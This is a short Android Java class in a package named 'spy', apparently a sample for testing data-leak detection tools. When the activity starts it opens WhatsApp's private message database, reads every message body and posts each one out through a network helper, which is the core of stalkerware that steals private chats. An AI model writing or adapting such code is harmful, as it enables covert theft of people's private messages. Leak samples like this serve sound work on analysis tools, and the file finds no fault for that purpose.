package org.example.flows.spy;

import android.app.Activity;
import android.database.Cursor;
import android.database.sqlite.SQLiteDatabase;
import android.os.Bundle;
import org.example.flows.Net;

/** Opens the database of a messenger. */
public class OtherApp extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        SQLiteDatabase chats = SQLiteDatabase.openDatabase(
                "/data/data/com.whatsapp/databases/msgstore.db", null, SQLiteDatabase.OPEN_READONLY);
        Cursor rows = chats.rawQuery("SELECT data FROM messages", null);
        while (rows.moveToNext()) {
            Net.post(rows.getString(0));
        }
    }
}
